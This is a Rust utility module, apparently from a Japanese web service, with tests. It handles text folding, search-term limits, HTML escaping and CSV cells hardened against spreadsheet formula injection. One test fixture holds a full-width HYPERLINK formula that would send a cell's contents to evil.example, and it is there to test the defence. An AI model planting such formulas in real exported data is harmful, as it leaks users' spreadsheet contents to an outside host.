//! Text normalisation for matching: NFKC (full-width ＶＰＮ = VPN, half-width ｶﾅ = カナ) and
//! lower case. Display always keeps the original text.

use unicode_normalization::UnicodeNormalization;

/// NFKC and lower case; ASCII text skips the normalisation pass.
pub fn fold(s: &str) -> String {
    if s.is_ascii() {
        s.to_ascii_lowercase()
    } else {
        s.nfkc().flat_map(char::to_lowercase).collect()
    }
}

/// The words of a search box, folded ([`fold`]) and split on ASCII and full-width spaces: at
/// most 8 words of at most 100 characters each, control characters refused. An empty box is no
/// words.
pub fn search_terms(q: &str) -> Result<Vec<String>, (String, String)> {
    if q.chars().count() > 200 || q.chars().any(|c| c.is_control()) {
        return Err((
            "検索語は 200 文字以内で、制御文字を含めずに入力してください".into(),
            "Search words: at most 200 characters, without control characters".into(),
        ));
    }
    let words: Vec<String> = fold(q)
        .split(|c: char| c.is_whitespace())
        .filter(|w| !w.is_empty())
        .map(str::to_owned)
        .collect();
    if words.len() > 8 {
        return Err((
            "検索語は 8 語までにしてください".into(),
            "Search: at most 8 words".into(),
        ));
    }
    Ok(words)
}

/// One CSV cell as Excel should read it: always quoted, quotes doubled, and a cell that a
/// spreadsheet could take for a formula defused with a leading apostrophe. A formula starts
/// with `=`, `+`, `-` or `@` — also in their full-width forms (`＝＋－＠`, which Japanese input
/// methods type and which NFKC folds to the ASCII ones) and the minus sign `−` — or with a TAB
/// or CR that a spreadsheet skips before reading the rest.
pub fn csv_cell(s: &str) -> String {
    let s = if formula_like(s) {
        format!("'{s}")
    } else {
        s.to_owned()
    };
    format!("\"{}\"", s.replace('"', "\"\""))
}

fn formula_like(s: &str) -> bool {
    let Some(first) = s.chars().next() else {
        return false;
    };
    if matches!(first, '\t' | '\r' | '\u{2212}') {
        return true;
    }
    let mut buf = [0u8; 4];
    first
        .encode_utf8(&mut buf)
        .nfkc()
        .next()
        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@'))
}

/// `1788` → `1,788`.
pub fn count(n: impl Into<u64>) -> String {
    let digits = n.into().to_string();
    let mut out = String::new();
    for (i, c) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i) % 3 == 0 {
            out.push(',');
        }
        out.push(c);
    }
    out
}

/// `1 entry`, `1,200 entries`.
pub fn plural(n: impl Into<u64>, one: &str, many: &str) -> String {
    let n = n.into();
    format!("{} {}", count(n), if n == 1 { one } else { many })
}

/// The longest note (an acknowledgement's 備考, a prefecture's 補足), in characters.
pub const NOTE_MAX_CHARS: usize = 2_000;

/// A checked note: trimmed, CRLF made LF, at most [`NOTE_MAX_CHARS`], no control characters but
/// newlines and tabs. Empty is none; the error says what was wrong.
pub fn note(note: &str) -> Result<Option<String>, String> {
    let note = note.trim().replace("\r\n", "\n");
    if note.is_empty() {
        return Ok(None);
    }
    if note.chars().count() > NOTE_MAX_CHARS {
        return Err(format!(
            "the note is longer than {NOTE_MAX_CHARS} characters"
        ));
    }
    if note
        .chars()
        .any(|c| c.is_control() && c != '\n' && c != '\t')
    {
        return Err("the note contains control characters".into());
    }
    Ok(Some(note))
}

/// Plain text made safe to embed in HTML (mail bodies, CAP, search snippets, result tables):
/// one escaping for every capability that writes HTML by hand.
pub fn escape_html(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    #[test]
    fn text_is_escaped_for_html() {
        assert_eq!(super::escape_html("<b>&\"'"), "&lt;b&gt;&amp;&quot;&#39;");
    }

    #[test]
    fn csv_cells_that_a_spreadsheet_would_run_are_defused_in_every_width() {
        use super::csv_cell;
        for formula in [
            "=1+1",
            "＝HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")",
            "＋1",
            "－1",
            "−1",
            "＠SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            assert!(
                csv_cell(formula).starts_with("\"'"),
                "{formula:?} left as {}",
                csv_cell(formula)
            );
        }
        assert_eq!(csv_cell("改善方針: 来年度"), "\"改善方針: 来年度\"");
        assert_eq!(csv_cell(""), "\"\"");
        assert_eq!(csv_cell("１２３"), "\"１２３\"");
    }

    #[test]
    fn full_width_and_half_width_forms_fold_together() {
        assert_eq!(super::fold("ＶＰＮ装置"), "vpn装置");
        assert_eq!(super::fold("ﾌｫｰﾃｨﾈｯﾄ"), "フォーティネット");
        assert_eq!(super::fold("FortiGate"), "fortigate");
    }
}
